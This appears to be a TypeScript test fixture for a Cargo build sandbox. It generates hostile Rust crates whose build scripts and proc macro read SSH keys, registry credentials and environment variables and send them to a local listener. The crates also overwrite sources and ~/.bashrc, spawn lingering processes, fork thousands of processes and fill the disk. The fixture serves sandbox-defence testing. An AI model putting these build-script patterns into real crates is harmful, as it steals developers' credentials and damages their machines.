/**
 * Hostile crates for the sandbox tests: build scripts and a proc macro that try to read
 * planted secrets (~/.ssh/id_rsa, WHARF_HOME and CARGO_HOME credentials, secret environment
 * variables), write outside OUT_DIR (the project, the registry cache, another crate's
 * sources, the host's /tmp), reach a TCP listener on 127.0.0.1 and a unix socket, leave a
 * process running, change a host sysctl, fork without end, spin, and fill the disk. Each one
 * bounds itself (at most 5,000 processes, 2 GiB written, nothing large allocated, two
 * minutes of spinning) so that a failed defence cannot take the machine down.
 */
import type { FileTree } from "./project.js";

export interface HostileTargets {
  home: string;
  wharfHome: string;
  cargoHome: string;
  /** the application being built (its sources must not change) */
  appDir: string;
  /** a crate whose sources must not change */
  victimDir: string;
  port: number;
  socket: string;
  /** unique text in names and process arguments, to find what a hostile crate left */
  marker: string;
  /** `sleep` arguments of the processes the crates start (unique numbers) */
  leftoverSleep: number;
  bombSleep: number;
}

function manifest(name: string, extra = ""): string {
  return `[package]\nname = "${name}"\nversion = "0.1.0"\nedition = "2021"\n${extra}`;
}

/** Rust helpers shared by the snooping build script and proc macro. */
function snoopCode(t: HostileTargets): string {
  return `
use std::io::Write;

fn read(p: &str) -> Result<String, String> {
    std::fs::read_to_string(p).map_err(|e| e.to_string())
}

fn write(p: &str) -> Result<String, String> {
    std::fs::OpenOptions::new()
        .append(true)
        .create(true)
        .open(p)
        .and_then(|mut f| f.write_all(b"pwned\\n"))
        .map(|_| "written".to_string())
        .map_err(|e| e.to_string())
}

/** every attempt with its outcome; what was read goes into the loot */
fn attempts(loot: &mut String) -> Vec<(String, Result<String, String>)> {
    let mut out = Vec::new();
    let reads = [
        ("read ssh key", "${t.home}/.ssh/id_rsa".to_string()),
        ("read wharf credentials", "${t.wharfHome}/credentials.toml".to_string()),
        ("read cargo credentials", "${t.cargoHome}/credentials.toml".to_string()),
        ("read default cargo credentials", "${t.home}/.cargo/credentials.toml".to_string()),
        ("read default wharf credentials", "${t.home}/.wharf/credentials.toml".to_string()),
    ];
    for (name, p) in reads {
        let r = read(&p);
        if let Ok(v) = &r {
            loot.push_str(v);
        }
        out.push((name.to_string(), r));
    }
    if let Ok(home) = std::env::var("HOME") {
        let r = read(&format!("{}/.ssh/id_rsa", home));
        if let Ok(v) = &r {
            loot.push_str(v);
        }
        out.push(("read $HOME/.ssh/id_rsa".to_string(), r));
    }
    let env: Vec<String> = std::env::vars().map(|(k, v)| format!("{}={}", k, v)).collect();
    loot.push_str(&env.join(" "));
    out.push(("read environment".to_string(), Ok(env.join(" "))));
    let writes = [
        ("write project source", "${t.appDir}/src/main.rs".to_string()),
        ("write project manifest", "${t.appDir}/Cargo.toml".to_string()),
        ("write registry cache", "${t.wharfHome}/registry-poison".to_string()),
        ("write another crate's sources", "${t.victimDir}/src/lib.rs".to_string()),
        ("write host tmp", "/tmp/wharf-hostile-${t.marker}".to_string()),
        ("write home", "${t.home}/.bashrc".to_string()),
    ];
    for (name, p) in writes {
        out.push((name.to_string(), write(&p)));
    }
    if let Ok(dir) = std::env::var("CARGO_MANIFEST_DIR") {
        out.push(("write own sources".to_string(), write(&format!("{}/src/lib.rs", dir))));
    }
    let tcp = std::net::TcpStream::connect(("127.0.0.1", ${t.port}))
        .and_then(|mut s| s.write_all(loot.as_bytes()))
        .map(|_| "connected".to_string())
        .map_err(|e| e.to_string());
    out.push(("connect tcp 127.0.0.1".to_string(), tcp));
    let unix = std::os::unix::net::UnixStream::connect("${t.socket}")
        .and_then(|mut s| s.write_all(loot.as_bytes()))
        .map(|_| "connected".to_string())
        .map_err(|e| e.to_string());
    out.push(("connect unix socket".to_string(), unix));
    let sysctl = "/proc/sys/vm/swappiness";
    let r = read(sysctl).and_then(|v| {
        std::fs::write(sysctl, v.trim())
            .map(|_| "written".to_string())
            .map_err(|e| e.to_string())
    });
    out.push(("write host sysctl".to_string(), r));
    out
}
`;
}

export function hostileCrates(t: HostileTargets): Record<string, FileTree> {
  return {
    victim: {
      "Cargo.toml": manifest("victim"),
      "src/lib.rs": "pub fn victim() -> u32 { 7 }\n",
    },
    snoop: {
      "Cargo.toml": manifest("snoop", 'build = "build.rs"\n'),
      "src/lib.rs": `pub const LOOT: &str = env!("SNOOP_LOOT");\n`,
      "build.rs": `${snoopCode(t)}
fn main() {
    let mut loot = String::new();
    for (name, r) in attempts(&mut loot) {
        match r {
            Ok(v) => println!("cargo:warning=ATTEMPT {}: ok {}", name, v.replace('\\n', " ")),
            Err(e) => println!("cargo:warning=ATTEMPT {}: refused {}", name, e),
        }
    }
    // a process meant to outlive the build
    let spawned = std::process::Command::new("/bin/sh")
        .args(["-c", "setsid /bin/sleep ${t.leftoverSleep} >/dev/null 2>&1 </dev/null &"])
        .status()
        .map(|s| s.to_string())
        .unwrap_or_else(|e| e.to_string());
    println!("cargo:warning=ATTEMPT leave a process running: {}", spawned);
    let out = std::env::var("OUT_DIR").unwrap();
    std::fs::write(format!("{}/loot.txt", out), &loot).unwrap();
    println!("cargo:rustc-env=SNOOP_LOOT={}", loot.replace('\\n', " "));
}
`,
    },
    "snoop-macro": {
      "Cargo.toml": manifest("snoop-macro", "\n[lib]\nproc-macro = true\n"),
      "src/lib.rs": `extern crate proc_macro;
use proc_macro::TokenStream;
${snoopCode(t)}
#[proc_macro]
pub fn snoop(_item: TokenStream) -> TokenStream {
    let mut loot = String::new();
    let mut report = String::new();
    for (name, r) in attempts(&mut loot) {
        match r {
            Ok(v) => report.push_str(&format!("MACRO {}: ok {}\\n", name, v)),
            Err(e) => report.push_str(&format!("MACRO {}: refused {}\\n", name, e)),
        }
    }
    format!("pub const SNOOP: &str = {:?};", report).parse().unwrap()
}
`,
    },
    forkbomb: {
      "Cargo.toml": manifest("forkbomb", 'build = "build.rs"\n'),
      "src/lib.rs": "",
      "build.rs": `fn main() {
    let mut kids = Vec::new();
    // bounded by itself: at most 5,000 processes
    for i in 0..5000 {
        match std::process::Command::new("/bin/sleep").arg("${t.bombSleep}").spawn() {
            Ok(c) => kids.push(c),
            Err(e) => {
                eprintln!("fork bomb stopped after {} processes: {}", i, e);
                std::process::exit(1);
            }
        }
    }
    eprintln!("fork bomb was not stopped: 5000 processes");
    for mut k in kids {
        let _ = k.kill();
        let _ = k.wait();
    }
    std::process::exit(2);
}
`,
    },
    spin: {
      "Cargo.toml": manifest("spin", 'build = "build.rs"\n'),
      "src/lib.rs": "",
      "build.rs": `fn main() {
    let start = std::time::Instant::now();
    let mut x: u64 = 0;
    // bounded by itself: two minutes
    while start.elapsed().as_secs() < 120 {
        x = std::hint::black_box(x.wrapping_add(1));
    }
    eprintln!("spin was not stopped after 120s ({})", x);
}
`,
    },
    filler: {
      "Cargo.toml": manifest("filler", 'build = "build.rs"\n'),
      "src/lib.rs": "",
      "build.rs": `use std::io::Write;
fn main() {
    let out = std::env::var("OUT_DIR").unwrap();
    let chunk = vec![7u8; 1 << 20];
    // bounded by itself: 512 files of 4 MiB = 2 GiB
    for f in 0..512 {
        let mut file = std::fs::File::create(format!("{}/fill-{}", out, f)).unwrap();
        for _ in 0..4 {
            if let Err(e) = file.write_all(&chunk) {
                eprintln!("filler stopped: {}", e);
                std::process::exit(1);
            }
        }
    }
    eprintln!("filler was not stopped: wrote 2 GiB");
    std::process::exit(2);
}
`,
    },
    netneed: {
      "Cargo.toml": manifest("netneed", 'build = "build.rs"\n'),
      "src/lib.rs": "",
      "build.rs": `use std::io::Write;
fn main() {
    let mut s = std::net::TcpStream::connect(("127.0.0.1", ${t.port})).expect("netneed: cannot reach the listener");
    s.write_all(b"netneed says hello").unwrap();
}
`,
    },
  };
}

/** An application using the named hostile crates (path dependencies) and the victim crate. */
export function hostileApp(name: string, crates: readonly string[], main: string): FileTree {
  const deps = ["victim", ...crates].map((c) => `${c} = { path = "../../crates/${c}" }`).join("\n");
  return {
    "Cargo.toml": `${manifest(name)}\n[dependencies]\n${deps}\n`,
    "src/main.rs": main,
  };
}
